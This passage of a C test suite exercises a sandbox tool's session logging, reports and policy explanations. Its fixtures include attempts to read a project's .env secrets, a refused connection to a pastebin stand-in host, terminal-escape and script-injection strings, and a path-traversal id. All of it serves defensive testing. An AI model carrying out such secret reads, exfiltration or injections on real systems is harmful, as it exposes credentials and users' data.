	snprintf(dir, sizeof dir, "%s", guard_session_dir(s));
	guard_session_finish(s, 0);
	struct guard_session_read ss;
	unsigned char *seen = calloc(WRITERS * PER_WRITER, 1);
	struct guard_session_read_stats st;
	guard_session_read_open(&ss, dir, why, sizeof why);
	guard_session_read_events(&ss, check_concurrent, seen, &st);
	guard_session_read_close(&ss);
	size_t once = 0;
	for (int k = 0; k < WRITERS * PER_WRITER; k++)
		once += seen[k] == 1;
	TAP_OK(once == WRITERS * PER_WRITER && st.malformed == 0 && !st.partial,
	       "%d concurrent events: every line intact, each exactly once (%zu ok, %lu malformed)",
	       WRITERS * PER_WRITER, once, st.malformed);
	free(seen);

	/* SIGKILL mid-session: what was appended is there; session.json says it never ended. */
	int pfd[2];
	if (pipe(pfd) != 0)
		exit(1);
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		char *kargv[] = {"sleep", "1000", NULL};
		struct guard_session_info ki = info;
		ki.id = "20260103T000000Z-cccccc";
		ki.argv = kargv;
		ki.mode = "namespaces";
		ki.observer = true;
		ki.unobserved = NULL;
		usleep(5000);
		struct guard_session *k = guard_session_create(&ki, img_buf, img_len, why, sizeof why);
		if (!k)
			_exit(1);
		char envp[700];
		snprintf(envp, sizeof envp, "%s/.env", project);
		const char cat_argv[] = "cat\0.env";
		struct guard_event e0 = ev_of(GUARD_OP_EXEC, "/usr/bin/cat", 0, cat_argv, 2);
		guard_session_event(k, &e0, &img, getpid());
		for (int i = 0; i < 49; i++) {
			struct guard_event e = ev_of(GUARD_OP_READ, envp, EACCES, NULL, 0);
			guard_session_event(k, &e, &img, getpid());
		}
		if (write(pfd[1], "x", 1) != 1)
			_exit(1);
		raise(SIGKILL);
		_exit(2);
	}
	close(pfd[1]);
	char c;
	bool signalled = read(pfd[0], &c, 1) == 1;
	close(pfd[0]);
	int wst;
	waitpid(pid, &wst, 0);
	TAP_OK(signalled && WIFSIGNALED(wst) && WTERMSIG(wst) == SIGKILL, "the writer died of SIGKILL mid-session");
	snprintf(killed_id, sizeof killed_id, "20260103T000000Z-cccccc");
	snprintf(dir, sizeof dir, "%s/state/guard/sessions/%s", root, killed_id);
	unsigned long n = 0;
	TAP_OK(guard_session_read_open(&ss, dir, why, sizeof why) == 0 && !ss.finished && ss.end < 0,
	       "killed session: session.json has no end record");
	guard_session_read_events(&ss, count_events, &n, &st);
	guard_session_read_close(&ss);
	TAP_OK(n == 50 && st.malformed == 0 && !st.partial, "killed session: all 50 events are in the log (%lu)", n);
	free(img_buf);
}

/* ---- the commands, through build/guard ------------------------------------------------------------------ */

static bool has(const char *text, const char *needle)
{
	return text && strstr(text, needle) != NULL;
}

static bool valid_utf8(const char *s)
{
	size_t n = strlen(s);
	for (size_t i = 0; i < n;) {
		size_t k = guard_utf8_seq((const unsigned char *)s + i, n - i);
		if (!k)
			return false;
		i += k;
	}
	return true;
}

static void test_report(void)
{
	char *out, *err;
	const char *a1[] = {"report", hostile_id, NULL};
	int rc = run(a1, NULL, &out, &err);
	TAP_OK(rc == 0, "report ID exits 0 (%d: %.200s)", rc, err);
	TAP_OK(has(out, "files.deny \".env\" (test.yaml:9:7, profile)"),
	       "text report names the rule with FILE:LINE:COL");
	TAP_OK(has(out, "files.protect \".git/config\" (test.yaml:13:7, profile)") && has(out, "EROFS"),
	       "text report shows the protect denial");
	TAP_OK(has(out, "none grants it (default deny)"), "text report explains default-deny denials");
	TAP_OK(!strchr(out, '\x1b') && !strchr(out, '\x07') && valid_utf8(out),
	       "text report: no raw escape or bell bytes, valid UTF-8 (hostile names are escaped)");
	TAP_OK(has(out, "$'\\x1b]0;pwned\\x07\xef\xbf\xbd'"), "hostile argv shown as $'...' with \\x escapes");
	TAP_OK(has(out, "Processes (3)") && has(out, "  1000  sh -c ") && has(out, "|- 1001  cat .env") &&
		       has(out, "`- 1002  python3 -c 'open('\\''.env'\\'')'"),
	       "process tree from exec events (sh with children cat and python3)");
	TAP_OK(has(out, "who   pid 1001 (cat)"), "a denial names its process");
	TAP_OK(!has(out, "1003  python3"), "an exec attempt that failed (execvp's PATH walk) is no process");
	TAP_OK(has(out, "Hosts contacted (3)") && has(out, "api.example:443  1, 1 denied"), "hosts section");
	TAP_OK(has(out, "connect pastebin.example:443") && has(out, "rule  network: not in network.allow") &&
		       has(out, "told by guard's proxy"),
	       "a proxy refusal: its reason, seen by the proxy");
	TAP_OK(has(out, "5 line(s) of events.jsonl were not valid"), "malformed lines reported under Not observed");
	TAP_OK(has(out, "exit 3") && has(out, "testprofile, namespaces mode, Landlock ABI 6"),
	       "header: exit, profile, mode");
	TAP_OK(has(out, "  project (") && has(out, "  system (") && has(out, "  home (") && has(out, "  temp ("),
	       "files grouped: project, system, home, temp");
	free(out), free(err);

	const char *a2[] = {"report", hostile_id, "--format", "json", NULL};
	rc = run(a2, NULL, &out, &err);
	int py = python_json_ok(out);
	TAP_OK(rc == 0 && py != 0, "report --format json exits 0 and python3 accepts it (%d, %d)", rc, py);
	struct guard_json_doc *d = guard_json_parse(out, strlen(out), NULL, NULL, 0);
	const struct guard_json *r = guard_json_root(d), *counts = guard_json_get(r, "counts");
	long long denied = -1, malformed = -1, ver = -1;
	guard_json_int_of(counts, "denied", &denied);
	guard_json_int_of(counts, "malformed_lines", &malformed);
	guard_json_int_of(r, "version", &ver);
	TAP_OK(d && ver == 1 && denied == 9 && malformed == 5, "JSON counts: 9 denied, 5 malformed lines");
	const char *top[] = {"session", "counts", "denials", "files", "processes", "hosts", "unobserved"};
	bool keys = true;
	for (size_t k = 0; k < sizeof top / sizeof *top; k++)
		keys &= guard_json_get(r, top[k]) != NULL;
	const struct guard_json *files = guard_json_get(r, "files"), *read = guard_json_get(files, "read");
	const char *groups[] = {"project", "system", "home", "temp", "other"};
	for (size_t k = 0; k < 5; k++)
		keys &= guard_json_get(read, groups[k]) && guard_json_get(read, groups[k])->type == GUARD_JSON_ARRAY;
	TAP_OK(keys, "JSON has every stable key (session, counts, denials, files.read.{project,...}, ...)");
	const struct guard_json *den = guard_json_get(r, "denials");
	bool found = false;
	for (size_t k = 0; den && k < den->len; k++) {
		const struct guard_json *x = &den->items[k], *rule = guard_json_get(x, "rule");
		const char *path = guard_json_str_of(x, "path");
		long long line = 0;
		if (path && strstr(path, "/proj/.env") && !strstr(path, "example") &&
		    strcmp(guard_json_str_of(x, "op"), "read") == 0 && guard_json_int_of(rule, "line", &line) &&
		    line == 9 && strcmp(guard_json_str_of(rule, "file"), "test.yaml") == 0)
			found = true;
	}
	TAP_OK(found, "JSON denial for .env carries its rule with file and line");
	guard_json_free(d);
	free(out), free(err);

	const char *a3[] = {"report", hostile_id, "--format=html", NULL};
	rc = run(a3, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "<!DOCTYPE html>") && has(out, "</html>"), "report --format html exits 0");
	TAP_OK(!has(out, "<script") && has(out, "&lt;script&gt;alert("), "HTML: the <script> in a path is escaped");
	TAP_OK(!has(out, "http://") && !has(out, "https://") && !has(out, "src=") && !has(out, "<link"),
	       "HTML: no external resources");
	TAP_OK(!strchr(out, '\x1b') && valid_utf8(out), "HTML: no raw control bytes, valid UTF-8");
	TAP_OK(has(out, "test.yaml:9:7") && has(out, "<style>"), "HTML: rules with provenance, inline CSS");
	char html[700];
	snprintf(html, sizeof html, "%s/report.html", root);
	put(html, out);
	free(out), free(err);

	const char *a4[] = {"report", "--last", NULL};
	rc = run(a4, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, killed_id) && has(out, "no end record"),
	       "report --last: the killed session, no end record");
	TAP_OK(has(out, "49 attempts"), "repeated denials of one path merged (49 attempts)");
	free(out), free(err);

	const char *a5[] = {"report", "20260102", NULL};
	rc = run(a5, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, calm_id) && has(out, "Denied (0)") && has(out, "raw syscalls: the observer was off"),
	       "report by unique id prefix; the supervisor's 'unobserved' note shown");
	free(out), free(err);

	const char *a6[] = {"report", "nope", NULL};
	rc = run(a6, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "guard: no session \"nope\"") && has(err, "Hint:"),
	       "unknown session: 125 with hint");
	free(out), free(err);
	const char *a7[] = {"report", "2026", NULL};
	rc = run(a7, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "more than one session"), "ambiguous prefix: 125");
	free(out), free(err);
	const char *a8[] = {"report", "--format", "xml", NULL};
	rc = run(a8, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "unknown format") && has(err, "Hint:"), "bad --format: 125 with hint");
	free(out), free(err);
	const char *a9[] = {"report", "../../etc", NULL};
	rc = run(a9, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "not a session id"), "a path as the id is refused");
	free(out), free(err);
}

static void test_sessions(void)
{
	char *out, *err;
	const char *a1[] = {"sessions", NULL};
	int rc = run(a1, NULL, &out, &err);
	const char *k = strstr(out, killed_id), *c = strstr(out, calm_id), *h = strstr(out, hostile_id);
	TAP_OK(rc == 0 && k && c && h && k < c && c < h, "sessions: all three, newest first");
	TAP_OK(has(out, "killed") && has(out, "~/proj") && has(out, "make -j8"),
	       "sessions: killed status, project, command");
	char line[64];
	snprintf(line, sizeof line, "%s", h ? h : "");
	TAP_OK(h && strstr(h, "       9  ") != NULL, "sessions: denial count of the finished session (9)");
	TAP_OK(!strchr(out, '\x1b'), "sessions: hostile argv escaped");
	free(out), free(err);
	const char *a2[] = {"sessions", "--json", NULL};
	rc = run(a2, NULL, &out, &err);
	int py = python_json_ok(out);
	struct guard_json_doc *d = guard_json_parse(out, strlen(out), NULL, NULL, 0);
	const struct guard_json *r = guard_json_root(d);
	TAP_OK(rc == 0 && py != 0 && r && r->type == GUARD_JSON_ARRAY && r->len == 3 &&
		       strcmp(guard_json_str_of(&r->items[0], "status"), "killed") == 0,
	       "sessions --json: valid, 3 entries, newest (killed) first");
	guard_json_free(d);
	free(out), free(err);
}

static void test_explain(void)
{
	char *out, *err, envp[700], gitcfg[700];
	snprintf(envp, sizeof envp, "%s/.env", project);
	snprintf(gitcfg, sizeof gitcfg, "%s/.git/config", project);
	const char *a1[] = {"explain", envp, "--session", hostile_id, NULL};
	int rc = run(a1, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "denied (files.deny"), "explain .env --session: denied (%d %.200s)", rc, err);
	TAP_OK(has(out, "decided   files.deny \".env\"  test.yaml:9:7 (profile)"),
	       "explain: the winning rule with FILE:LINE:COL");
	TAP_OK(has(out, "tree      files.write \"$PROJECT\"  test.yaml:6:7 (profile)"),
	       "explain: the rule that allows the tree");
	TAP_OK(has(out, "cover (empty mode-000 mount)"),
	       "explain: namespaces mode, denied inside a granted tree: cover");
	TAP_OK(has(out, "attempts  2 in session") && has(out, "(cat)  read denied EACCES"),
	       "explain: the recorded attempts, with the program");
	TAP_OK(has(out, "--deny '!~/proj/.env' -- agent --say") && has(out, "- \"!~/proj/.env\""),
	       "explain: the flag and the YAML line that would allow it");
	free(out), free(err);

	const char *a2[] = {"explain", gitcfg, "--op", "write", "--session", hostile_id, NULL};
	rc = run(a2, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "files.protect \".git/config\"") && has(out, "read-only bind") &&
		       has(out, "--protect '!~/proj/.git/config'"),
	       "explain --op write on a protected path: protect rule, read-only bind, the flag");
	free(out), free(err);

	const char *a3[] = {"explain", "/usr/bin/newfile-guard-test", "--op", "write", "--session", hostile_id, NULL};
	rc = run(a3, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "read-only: no write rule") && has(out, "--allow-write /usr/bin ") &&
		       has(out, "tree      files.read \"/usr\""),
	       "explain a write into a read-only tree: --allow-write of the directory");
	free(out), free(err);

	const char *a4[] = {"explain", "--session", hostile_id, NULL};
	rc = run(a4, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "most recent denial is connect to pastebin.example:443 (not in network.allow)"),
	       "explain --session ID: its most recent denial (the proxy's refusal, with its reason)");
	free(out), free(err);

	const char *a5[] = {"explain", "--last", NULL};
	rc = run(a5, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "/proj/.env (read)") && has(out, "attempts  49 in session") && has(out, killed_id),
	       "explain --last: the last session's most recent denial, 49 attempts");
	free(out), free(err);

	const char *a6[] = {"explain", "--session", calm_id, NULL};
	rc = run(a6, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "recorded no denial"), "explain on a session without denials says so");
	free(out), free(err);

	/* Inside the sandbox: only GUARD_POLICY, no log. */
	char img[700], session_img[700];
	snprintf(session_img, sizeof session_img, "%s/state/guard/sessions/%s/policy.img", root, hostile_id);
	snprintf(img, sizeof img, "%s/inside.img", root);
	size_t ilen = 0;
	char *ibuf = slurp(session_img, &ilen);
	FILE *f = fopen(img, "wb");
	if (!ibuf || !f || fwrite(ibuf, 1, ilen, f) != ilen)
		exit(1);
	fclose(f);
	free(ibuf);
	setenv("GUARD_POLICY", img, 1);
	setenv("GUARD_SESSION", hostile_id, 1);
	const char *a7[] = {"explain", envp, NULL};
	rc = run(a7, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "GUARD_POLICY=") && has(out, "not visible from inside the sandbox") &&
		       has(out, "test.yaml:9:7"),
	       "explain with GUARD_POLICY: the sandbox's own policy, says the log is not visible");
	free(out), free(err);
	put(img, "garbage");
	rc = run(a7, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "not a valid policy image"), "a bad GUARD_POLICY image is an error, not a crash");
	free(out), free(err);
	char unreachable[700], state[700];
	snprintf(unreachable, sizeof unreachable, "%s/not-mounted-here", root);
	snprintf(state, sizeof state, "%s/state", root);
	setenv("XDG_STATE_HOME", unreachable, 1); /* as inside a sandbox: the log is not there */
	const char *a10[] = {"explain", "--last", NULL};
	rc = run(a10, NULL, &out, &err);
	setenv("XDG_STATE_HOME", state, 1);
	TAP_OK(rc == 125 && has(err, "out of reach by design"), "explain --last inside the sandbox: 125, says why");
	free(out), free(err);
	unsetenv("GUARD_POLICY");
	unsetenv("GUARD_SESSION");

	/* No session named: the current policy (default profile) of this project, attempts from its newest session. */
	char cwd[4096];
	if (!getcwd(cwd, sizeof cwd) || chdir(project) != 0)
		exit(1);
	const char *a8[] = {"explain", ".env", NULL};
	rc = run(a8, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "the current policy") && has(out, "rules/default.yaml:") &&
		       has(out, "attempts  49 in session"),
	       "explain .env without a session: current policy with provenance, attempts from the last session "
	       "(%.300s)",
	       err);
	free(out), free(err);
	const char *a9[] = {"explain", "src/../src/main.c", "--op", "write", NULL};
	rc = run(a9, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "/proj/src/main.c (write)") && has(out, "verdict   allowed") && has(out, "to deny"),
	       "explain normalizes a relative path; an allowed write says how to deny it");
	free(out), free(err);
	if (chdir(cwd) != 0)
		exit(1);

	char link[700];
	snprintf(link, sizeof link, "%s/link-to-env", project);
	put(envp, "API_KEY=1\n");
	if (symlink(".env", link) != 0)
		exit(1);
	const char *a11[] = {"explain", link, "--session", hostile_id, NULL};
	rc = run(a11, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "note      a symbolic link on the way resolves it to") && has(out, "/proj/.env"),
	       "explain on a symlink points at what the kernel checks");
	free(out), free(err);
	unlink(link);
	unlink(envp);

	const char *b1[] = {"explain", NULL};
	rc = run(b1, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "Hint:"), "explain without a path: 125 with usage");
	free(out), free(err);
	const char *b2[] = {"explain", envp, "--op", "fly", NULL};
	rc = run(b2, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "unknown --op"), "explain --op fly: 125");
	free(out), free(err);
	const char *b3[] = {"explain", envp, "--session", "nope", NULL};
	rc = run(b3, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "no session"), "explain --session unknown: 125");
	free(out), free(err);
}

static void test_empty_state(void)
{
	char *out, *err, empty[700];
	snprintf(empty, sizeof empty, "%s/empty-state", root);
	setenv("XDG_STATE_HOME", empty, 1);
	const char *a1[] = {"sessions", NULL};
	int rc = run(a1, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "no sessions yet"), "sessions with no sessions dir: exit 0, says so");
	free(out), free(err);
	mkdir(empty, 0700);
	char sd[800];
	snprintf(sd, sizeof sd, "%s/guard", empty);
	mkdir(sd, 0700);
	snprintf(sd, sizeof sd, "%s/guard/sessions", empty);
	mkdir(sd, 0700);
	const char *a2[] = {"sessions", "--json", NULL};
	rc = run(a2, NULL, &out, &err);
	TAP_OK(rc == 0 && strcmp(out, "[]\n") == 0, "sessions --json on an empty dir: []");
	free(out), free(err);
	const char *a3[] = {"report", NULL};
	rc = run(a3, NULL, &out, &err);
	TAP_OK(rc == 125 && has(err, "no sessions recorded yet") && has(err, "Hint:"),
	       "report with no sessions: 125 with hint");
	free(out), free(err);
	const char *a4[] = {"explain", "--last", NULL};
	rc = run(a4, NULL, &out, &err);
	TAP_OK(rc == 125, "explain --last with no sessions: 125");
	free(out), free(err);
	/* A damaged session directory is listed as such and does not stop the others. */
	snprintf(sd, sizeof sd, "%s/guard/sessions/20260104T000000Z-dddddd", empty);
	mkdir(sd, 0700);
	rc = run(a1, NULL, &out, &err);
	TAP_OK(rc == 0 && has(out, "unreadable"), "sessions lists a damaged session as unreadable");
	free(out), free(err);
	snprintf(sd, sizeof sd, "%s/state", root);
	setenv("XDG_STATE_HOME", sd, 1);
}

int main(void)
{
	snprintf(root, sizeof root, "/tmp/guard-test-session-XXXXXX");
	if (!mkdtemp(root)) {
		printf("Bail out! mkdtemp\n");
		return 1;
	}
	snprintf(home, sizeof home, "%s/home", root);
	snprintf(project, sizeof project, "%s/proj", home);
	char p[800];
	mkdir(home, 0700);
	mkdir(project, 0700);
	snprintf(p, sizeof p, "%s/.git", project);
	mkdir(p, 0700);
	snprintf(p, sizeof p, "%s/state", root);
	setenv("XDG_STATE_HOME", p, 1);
	snprintf(p, sizeof p, "%s/config", root);
	setenv("XDG_CONFIG_HOME", p, 1);
	setenv("HOME", home, 1);
	setenv("TZ", "UTC", 1);
	unsetenv("GUARD_POLICY");

	ssize_t n = readlink("/proc/self/exe", guard_bin, sizeof guard_bin - 16);
	if (n > 0) {
		guard_bin[n] = 0;
		for (int up = 0; up < 2; up++) {
			char *s = strrchr(guard_bin, '/');
			if (s)
				*s = 0;
		}
		strcat(guard_bin, "/guard");
	}

	test_json_escape();
	test_json_read();
	test_json_fuzz();
	test_store();
	test_concurrent_and_kill();
	if (access(guard_bin, X_OK) != 0) {
		TAP_OK(0, "build/guard exists at %s (the command tests need it)", guard_bin);
	} else {
		test_report();
		test_sessions();
		test_explain();
		test_empty_state();
	}
	if (!getenv("GUARD_TEST_KEEP"))
		nftw(root, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
	else
		printf("# kept %s\n", root);
	return tap_done();
}
